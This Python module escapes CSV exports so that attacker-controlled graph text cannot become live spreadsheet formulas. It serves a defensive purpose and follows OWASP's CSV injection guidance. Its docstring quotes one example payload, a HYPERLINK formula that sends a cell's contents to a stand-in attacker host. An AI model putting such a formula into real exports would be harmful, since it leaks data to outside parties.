"""CSV that is safe to open in a spreadsheet (no formula injection).

Graph evidence is attacker-controlled text: a page name or post like
``=HYPERLINK("https://evil.example/?"&A1)`` becomes a live formula when an analyst
opens the export in Excel, LibreOffice or Google Sheets. Following OWASP's CSV
injection guidance:

- a text cell whose first character is ``=``, ``+``, ``-``, ``@``, tab or carriage
  return gets a leading single quote, which spreadsheets read as "this is text";
- every cell is wrapped in double quotes (embedded quotes doubled), so a payload
  cannot break out into a new cell through a separator the spreadsheet guesses,
  such as ``;`` in many European locales.

Our choice beyond the minimum: we also look past leading whitespace (``"  =1+1"``),
because spreadsheet import dialogs can trim cells and the check costs nothing.
Python numbers are written as they are: ``-5`` cannot carry a formula, and quoting it
would turn numbers into text. The quote prefix is visible to non-spreadsheet readers
(pandas, csvkit); that is the documented price of the protection.
"""

from __future__ import annotations

import csv
import json
from collections.abc import Iterable, Mapping, Sequence
from pathlib import Path
from typing import IO, Any

from cibgraph.graph.exports.values import plain

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def escape_text(text: str) -> str:
    """Prefix ``'`` when the text would start a formula; otherwise return it unchanged."""
    if text.startswith(FORMULA_PREFIXES) or text.lstrip().startswith(FORMULA_PREFIXES):
        return "'" + text
    return text


def escape_cell(value: Any) -> str:
    """One cell's text: None is empty, lists and maps are JSON, text is escaped."""
    value = plain(value)
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float):
        return str(value)
    if isinstance(value, list | dict):
        # JSON text starts with [ or {, so it can never start a formula.
        return json.dumps(value, ensure_ascii=False)
    return escape_text(str(value))


def _cells(row: Sequence[Any] | Mapping[str, Any], header: Sequence[str]) -> list[str]:
    if isinstance(row, Mapping):
        return [escape_cell(row.get(name)) for name in header]
    return [escape_cell(value) for value in row]


def write_csv(
    target: str | Path | IO[str],
    header: Sequence[str],
    rows: Iterable[Sequence[Any] | Mapping[str, Any]],
) -> int:
    """Write ``header`` and ``rows`` (sequences, or mappings looked up by header) safely.

    ``target`` is a path (created or overwritten, UTF-8) or an open text stream.
    Returns the number of data rows written.
    """
    if isinstance(target, str | Path):
        with open(target, "w", encoding="utf-8", newline="") as handle:
            return write_csv(handle, header, rows)
    writer = csv.writer(target, quoting=csv.QUOTE_ALL)
    writer.writerow([escape_cell(name) for name in header])
    count = 0
    for row in rows:
        writer.writerow(_cells(row, header))
        count += 1
    return count
